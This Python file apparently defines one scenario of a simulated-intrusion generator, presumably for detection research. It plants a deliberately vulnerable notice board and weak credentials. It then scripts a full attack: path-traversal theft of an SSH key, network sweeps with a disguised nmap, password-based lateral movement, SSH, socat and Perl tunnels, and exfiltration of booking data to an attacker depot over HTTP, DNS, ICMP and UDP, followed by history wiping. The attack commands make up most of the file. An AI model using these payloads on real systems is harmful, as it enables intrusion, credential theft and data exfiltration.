"""A stolen key opens the bastion; from there the intruder sweeps the fleet, digs tunnels and carries data out."""

from __future__ import annotations

import re
import urllib.parse
from typing import TYPE_CHECKING

import pages
from plot import Storyline, Visit

if TYPE_CHECKING:
    from intruder import Intruder

PORT = 8341
MIDDLE = (3.5, 16.0, 7.0)
KEY = re.compile(r"-----BEGIN OPENSSH PRIVATE KEY-----.*?-----END OPENSSH PRIVATE KEY-----", re.DOTALL)

WEAKEN = r"""
set -e
apt-get install -y -q --no-install-recommends sshpass >/dev/null
id opsbot >/dev/null 2>&1 || useradd -m -s /bin/bash -c 'round of the fleet' opsbot
install -d -m 700 -o opsbot -g opsbot /home/opsbot/.ssh
install -d -m 755 /etc/opsbot /srv/notices /srv/notices/pages
[ -f /etc/opsbot/id_ed25519 ] || ssh-keygen -q -t ed25519 -N '' -C opsbot@"$1" -f /etc/opsbot/id_ed25519
cp /etc/opsbot/id_ed25519.pub /home/opsbot/.ssh/authorized_keys
chmod 600 /home/opsbot/.ssh/authorized_keys && chown -R opsbot:opsbot /home/opsbot/.ssh
chown root:www-data /etc/opsbot/id_ed25519 && chmod 640 /etc/opsbot/id_ed25519
printf '# host user password\nledger-03 opsbot Cobble-19\nforge-02 - -\nweb-05 - -\n' > /etc/opsbot/targets
chmod 644 /etc/opsbot/targets
for n in 1 2 3 4 5 6 7 8; do
    printf 'Notice %s: maintenance on day %s.\n' "$n" "$((n * 3))" > "/srv/notices/pages/notice-$n.txt"
done
cat > /srv/notices/board.py <<'EOF'
#!/usr/bin/python3
# Notice board of the operations desk.
from pathlib import Path

import appserver

PAGES = "/srv/notices/pages/"


def handle(method, path, query, body, headers):
    if path == "/page":
        try:
            return 200, Path(PAGES + query.get("name", "notice-1.txt")).read_text()
        except OSError as wrong:
            return 404, f"{wrong}\n"
    return 200, "\n".join(sorted(entry.name for entry in Path(PAGES).iterdir())) + "\n"


appserver.serve(8341, handle, "notices")
EOF
cat > /usr/local/bin/opsbot-round <<'EOF'
#!/bin/bash
# asks every host of the fleet whether ssh answers
while read -r host user password; do
    [ "$host" = '#' ] && continue
    nc -z -w 1 "$host" 22 && echo "$host up" || echo "$host down"
    timeout 1 bash -c "exec 3<>/dev/tcp/$host/22; head -c 20 <&3" 2>/dev/null
done < /etc/opsbot/targets > /home/opsbot/round.txt
EOF
chmod 755 /usr/local/bin/opsbot-round
printf '*/3 * * * * opsbot /usr/local/bin/opsbot-round\n' > /etc/cron.d/opsbot
"""

SECOND = r"""
set -e
id opsbot >/dev/null 2>&1 || useradd -m -s /bin/bash -c 'round of the fleet' opsbot
echo opsbot:Cobble-19 | chpasswd
install -d -o opsbot -g opsbot /home/opsbot/exports
for n in 1 2 3 4 5 6; do
    awk -v m="$n" 'BEGIN{srand(m); for(i=1;i<=120;i++) printf "%d,2025-0%d,%.2f\n", i, m, rand()*5000}' \
        > "/home/opsbot/exports/booking-0$n.csv"
done
chown -R opsbot:opsbot /home/opsbot/exports
"""

QUICK = """
== look round | TA0007 | Whose account, which hosts and which networks.
T1033 id; w
T1016 ip -4 addr; ip route; cat /etc/resolv.conf
T1018 cat /etc/hosts; cat ~/.ssh/known_hosts 2>/dev/null | head
T1552.001 cat /etc/opsbot/targets
T1027.010 %py ss -tn; ss -tln; last -n 5
T1518 which nmap socat nc sshpass proxychains python3
== sweep | TA0007 | Which hosts answer, then which doors they have, with a scanner under another name.
T1018 for i in $(seq 1 14); do (ping -c 1 -W 1 10.20.7.$i >/dev/null 2>&1 && echo 10.20.7.$i up) & done; wait
T1036.003 mkdir -p ~/.cache/{w}; cp /usr/bin/nmap ~/.cache/{w}/{tool}; cd ~/.cache/{w}
T1046 ./{tool} -sT -Pn -n -T4 --max-retries 0 --host-timeout 8s -p 22,80,443,3306,5432,6379,8080 10.20.7.2-7 -oG
    n.txt | tail -12
T1046 grep open n.txt | cut -c1-110
T1046 ./{tool} -sT -Pn -n -p 22,5432 --script banner --host-timeout 15s {second}
T1046 for p in 22 25 80 5432; do echo "== $p"; nc -w 1 {second} $p </dev/null | head -c 80; echo; done
? T1046 echo | timeout 3 openssl s_client -connect {second}:5432 -starttls postgres 2>&1 | head -3
== over to the ledger | TA0008 | The password in the list is good there.
T1021.004 sshpass -p Cobble-19 ssh -o StrictHostKeyChecking=no -o LogLevel=ERROR opsbot@{second} 'id; hostname;
    uptime'
T1083 sshpass -p Cobble-19 ssh opsbot@{second} 'ls -la ~ ~/exports; df -h / | tail -1'
T1570 sshpass -p Cobble-19 scp -q ./{tool} opsbot@{second}:/tmp/{tool}; sshpass -p Cobble-19 ssh opsbot@{second}
    'ls -l /tmp/{tool}'
T1046 sshpass -p Cobble-19 ssh opsbot@{second} '/tmp/{tool} -sT -Pn -n -p 22,80,5432 --host-timeout 5s 127.0.0.1 |
    grep open; rm -f /tmp/{tool}'
== tunnels | TA0011 | A forward to the database, a socks door and a relay to the intruder.
T1572 & nohup sshpass -p Cobble-19 ssh -o StrictHostKeyChecking=no -fN -L {p1}:127.0.0.1:5432 opsbot@{second}
    >/dev/null 2>&1
T1090.001 & nohup sshpass -p Cobble-19 ssh -o StrictHostKeyChecking=no -fN -D 127.0.0.1:{p2} opsbot@{second}
    >/dev/null 2>&1
T1049 ss -tlnp | grep -E '{p1}|{p2}'
T1213.006 PGPASSWORD=postgres PGCONNECT_TIMEOUT=4 psql -h 127.0.0.1 -p {p1} -U postgres -l
T1090.001 curl -s -m 8 -x socks5h://127.0.0.1:{p2} {depot}/ok; curl -s -m 5 --socks5 127.0.0.1:{p2}
    http://127.0.0.1/ | head -3
T1090.001 & nohup socat TCP-LISTEN:{p3},fork,reuseaddr TCP:{hostport} >/dev/null 2>&1 &
== out through the relay | TA0010 | The ledger's host sends its exports to the bastion, which passes them on.
T1560.001 sshpass -p Cobble-19 ssh opsbot@{second} 'tar czf /tmp/.{w}.tgz -C ~ exports; ls -l /tmp/.{w}.tgz'
T1048.003 sshpass -p Cobble-19 ssh opsbot@{second} 'curl -s -m 15 --data-binary @/tmp/.{w}.tgz http://{entry}:{p3}/in'
T1048.003 sshpass -p Cobble-19 ssh opsbot@{second} 'base64 -w0 /tmp/.{w}.tgz | head -c 1500 | curl -s -m 9 -d @-
    http://{entry}:{p3}/b; rm -f /tmp/.{w}.tgz'
T1070.004 rm -rf ~/.cache/{w}
T1070.003 history -c; ln -sf /dev/null ~/.bash_history
"""

PATIENT = """
== look round | TA0007 | Only what the shell itself can do, with long pauses.
T1033 echo $USER $UID $HOSTNAME
T1016 cat /proc/net/route | awk 'NR>1{print $1,$2,$8}'; hostname -I
? T1083 echo ~/* /srv/* /opt/*
T1018 while read -r a n rest; do echo $a $n; done < /etc/hosts
T1552.001 cat /etc/opsbot/*
T1552.003 tail -n 15 ~/.bash_history
== doors, one by one | TA0007 | A connection by the shell every few seconds, no scanner.
T1059.004 t() { timeout 1 bash -c "exec 9<>/dev/tcp/$1/$2" 2>/dev/null && echo "$1 $2"; }
T1046 for h in 2 3 5; do t 10.20.7.$h 22; sleep 3; done
T1046 for p in 80 443 5432 6379 8080; do t {second} $p; sleep 4; done
T1046 timeout 2 bash -c 'exec 9<>/dev/tcp/{second}/22; head -n 1 <&9'
T1027.010 x=n; y=c; $x$y -z -v -w 1 {second} 22 5432
T1046 python3 -c "import socket; [print(h,p) for h in range(1,8) for p in (22,80) if not
    (s:=socket.socket()).settimeout(.4) and not s.connect_ex(('10.20.7.%d'%h,p))]"
? T1046 busybox nc -w 1 {second} 5432 </dev/null; echo $?
== over to the ledger | TA0008 | A small answering script types the password.
T1059.004 printf '#!/bin/sh\\necho Cobble-19\\n' > ~/.{w}; chmod 700 ~/.{w}; export SSH_ASKPASS=$HOME/.{w}
    SSH_ASKPASS_REQUIRE=force
T1021.004 ssh -o StrictHostKeyChecking=no -o LogLevel=ERROR opsbot@{second} id
T1083 ssh opsbot@{second} 'ls exports; wc -l exports/*.csv | tail -1'
T1098.004 ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/{w} </dev/null; ssh opsbot@{second} 'mkdir -p -m 700 .ssh; cat
    >> .ssh/authorized_keys' < ~/.ssh/{w}.pub
T1090.001 & ssh -i ~/.ssh/{w} -o ServerAliveInterval=20 -fN -R {p1}:127.0.0.1:{p3} opsbot@{second}
T1049 ssh -i ~/.ssh/{w} opsbot@{second} 'ss -tln | grep {p1}'
== relay of pipes | TA0011 | A named pipe and two netcats make a relay that takes one connection.
T1090.001 mkfifo /tmp/.{w}.p; ls -l /tmp/.{w}.p
T1090.001 & (nc -l 127.0.0.1 {p3} < /tmp/.{w}.p | nc {ip} {port} > /tmp/.{w}.p) >/dev/null 2>&1 &
T1048.003 ssh -i ~/.ssh/{w} opsbot@{second} 'gzip -c exports/booking-01.csv | base64 -w0 > .b; wc -c .b; curl -s -m
    9 -d @.b http://127.0.0.1:{p1}/x'
T1070.004 rm -f /tmp/.{w}.p
== out by odd ways | TA0010 | Small pieces leave as names to resolve, in echo packets and as datagrams.
T1074.001 ssh -i ~/.ssh/{w} opsbot@{second} 'head -c 240 .b; rm -f .b' > ~/.{w}.b; wc -c ~/.{w}.b
T1132.001 xxd -p ~/.{w}.b | tr -d '\\n' | fold -w 60 > ~/.{w}.h; wc -l ~/.{w}.h
T1048.003 n=0; for c in $(head -n 4 ~/.{w}.h); do n=$((n+1)); dig +short +tries=1 +time=1 @{ip}
    $n.$c.{word}.example | head -1; sleep 2; done
T1095 for c in $(head -n 5 ~/.{w}.h); do ping -c 1 -W 1 -p ${c:0:32} {ip} | tail -1; sleep 2; done
T1048.003 while read -r c; do echo $c > /dev/udp/{ip}/53; sleep 1; done < ~/.{w}.h
? T1048.003 python3 -c "import socket; s=socket.socket(2,2); [s.sendto(l.encode(),('{ip}',123)) for l in
    open('/home/opsbot/.{w}.h')]"
T1070.004 rm -f ~/.{w} ~/.{w}.b ~/.{w}.h; ls -A
"""

OPERATOR = """
== morning round | TA0007 | It looks like the round that the operations desk makes.
T1033 uptime; w
T1018 cat /etc/hosts | grep corp; cat /etc/opsbot/targets
T1018 fping -a -q -r 0 -t 300 -g 10.20.7.1 10.20.7.14 2>/dev/null || nmap -n -sn 10.20.7.0/28 | grep report
T1046 nmap -n -Pn --open -T3 --host-timeout 10s -p 22,80,443,5432,8080 10.20.7.2 10.20.7.3 10.20.7.5
T1082 for h in forge-02 ledger-03 web-05; do printf '%s ' $h; timeout 2 nc $h 22 </dev/null | head -1; done
? T1046 curl -s -m 4 -I http://web-05/ | head -4
== to the ledger with a script | TA0008 | A list of commands is run there by a script, as for updates.
T1059.004 cat > ~/{tool} <<'EOF'
#!/usr/bin/expect -f
set timeout 20
log_user 1
spawn -noecho ssh -o StrictHostKeyChecking=no -o LogLevel=ERROR opsbot@{second} [lindex $argv 0]
expect "assword:" { send "Cobble-19\\r" }
expect eof
EOF
T1222.002 chmod +x ~/{tool}; head -2 ~/{tool}
T1021.004 ~/{tool} 'id; uptime; df -h /'
T1057 ~/{tool} 'ps -eo user,args | grep -i postgres | head -6'
T1083 ~/{tool} 'ls -l exports /var/lib/postgresql /var/backups'
T1069.001 ~/{tool} 'getent group postgres sudo adm'
T1552.001 ~/{tool} 'cat ~/.pgpass; grep -rils passw /srv /opt --include=*.conf --include=*.ini --include=*.env | head'
== one connection for many | TA0008 | A shared connection stays open and others ride on it.
T1563.001 & nohup sshpass -p Cobble-19 ssh -o StrictHostKeyChecking=no -fNM -S ~/.ssh/cm-{w} opsbot@{second}
    >/dev/null 2>&1
T1563.001 ssh -S ~/.ssh/cm-{w} -O check opsbot@{second}
T1005 ssh -S ~/.ssh/cm-{w} opsbot@{second} 'cat exports/booking-0*.csv' > ~/{w}.csv; wc -l ~/{w}.csv
T1090.001 & ssh -S ~/.ssh/cm-{w} -O forward -L {p1}:127.0.0.1:22 opsbot@{second}
T1572 sshpass -p Cobble-19 ssh -o StrictHostKeyChecking=no -o LogLevel=ERROR -p {p1} opsbot@127.0.0.1 'hostname;
    echo $SSH_CONNECTION'
T1021.004 sshpass -p Cobble-19 ssh -J opsbot@{second} -o StrictHostKeyChecking=no opsbot@{second} hostname
== a door that stays | TA0011 | A relay written in the shell's neighbour language keeps running.
T1105 curl -s {depot}/fw.pl -o ~/.local-fw.pl; perl -c ~/.local-fw.pl
T1090 & nohup perl ~/.local-fw.pl {p2} {second} 22 >/dev/null 2>&1 &
T1090 ssh-keyscan -T 3 -p {p2} 127.0.0.1 2>/dev/null | head -1 | cut -c1-60
? T1049 ss -tlnp | grep perl
== out | TA0010 | The figures leave as one encrypted piece, then in a stream.
T1560.001 gpg --batch -q --passphrase {word} --pinentry-mode loopback -c ~/{w}.csv || openssl enc -aes-256-cbc
    -pbkdf2 -k {word} -in ~/{w}.csv -out ~/{w}.csv.gpg
T1048.002 curl -s -m 15 -T ~/{w}.csv.gpg {depot}/{w}.gpg
T1048.003 exec 8<>/dev/tcp/{ip}/{port}; printf 'POST /s HTTP/1.0\\r\\nContent-Length: 500\\r\\n\\r\\n' >&8; head -c
    500 ~/{w}.csv >&8; timeout 3 head -1 <&8; exec 8>&-
T1070.004 rm -f ~/{w}.csv* ~/{tool}; ssh -S ~/.ssh/cm-{w} -O exit opsbot@{second}
"""

FORWARD = """use strict;
use IO::Socket::INET;
my ($near, $host, $port) = @ARGV;
my $door = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => $near, Listen => 5, ReuseAddr => 1) or die;
$SIG{CHLD} = "IGNORE";
while (my $one = $door->accept) {
    next if fork;
    my $two = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port) or exit 1;
    my ($from, $to) = fork ? ($one, $two) : ($two, $one);
    while (sysread $from, my $piece, 65536) { syswrite $to, $piece }
    shutdown $to, 1;
    exit;
}
"""


def steal_key(own: Intruder) -> str:
    own.step("path in a name", "TA0001", "The notice board reads any file that a page's name leads to.")
    middle = MIDDLE[own.variant]
    own.http(own.entry, PORT, "GET", "/page?name=notice-2.txt", technique="T1190")
    tried = ["../../../etc/passwd", "../../../etc/opsbot/targets", "../../../home/opsbot/.ssh/id_rsa"]
    if own.variant == 1:
        tried = ["....//....//etc/passwd", "/etc/hostname", "../../../etc/cron.d/opsbot"]
    if own.variant == 2:
        tried = ["../../../etc/opsbot/targets"]
    for name in tried:
        own.think(middle)
        own.http(own.entry, PORT, "GET", "/page?name=" + urllib.parse.quote(name, safe=""), technique="T1190")
    own.think(middle)
    place = "../../../etc/opsbot/id_ed25519" if own.variant else "..%2f..%2f..%2fetc%2fopsbot%2fid_ed25519"
    found = KEY.search(own.http(own.entry, PORT, "GET", "/page?name=" + place, technique="T1552.004"))
    assert found, "the board does not show the key"
    return found.group(0) + "\n"


def play(own: Intruder) -> None:
    key = steal_key(own)
    own.offer("fw.pl", FORWARD)
    number = own.rng.randint(2, 98)
    address, _, port = own.depot.removeprefix("http://").partition(":")
    low = own.rng.randrange(11000, 29000, 10)
    names = {
        "w": own.word() + str(number),
        "word": own.word(),
        "tool": own.pick(("netcheck", "linkstat", "reach", "inv", "pathmap")) + own.pick(("", "2", "-x64")),
        "depot": own.depot,
        "ip": address,
        "port": port or "80",
        "hostport": f"{address}:{port or 80}",
        "entry": own.entry.address,
        "second": own.second.address,
        "p1": str(low),
        "p2": str(low + 3),
        "p3": str(low + 7),
    }
    own.step("initial access", "TA0001", "With the stolen key the intruder logs on to the bastion.")
    shell = own.ssh(own.entry, "opsbot", key=key, technique="T1078.003")
    page = (QUICK, PATIENT, OPERATOR)[own.variant]
    pages.follow(own, page, pages.typed(shell), names, MIDDLE[own.variant])
    shell.close()


STORYLINE = Storyline(
    name="tunnel-and-scan",
    split="train",
    words="A notice board on the bastion gives away the key of the account that looks after the fleet. The intruder "
    "sweeps the neighbours, logs on to the ledger's host, digs tunnels and relays between the three machines, and "
    "carries booking figures out through them or by odd protocols.",
    weaken=WEAKEN,
    second_weaken=SECOND,
    two_hosts=True,
    services=("www-data: /usr/bin/python3 /srv/notices/board.py",),
    visits=(
        Visit(port=PORT, every=25, method="GET", path="/page?name=notice-{pick:1|2|3|4|5|6|7|8}.txt"),
        Visit(port=PORT, every=60, method="GET", path="/?v={n}"),
    ),
    play=play,
    variants=3,
    hosts=("gate-04",),
    second_hosts=("ledger-03",),
    minutes=14,
)
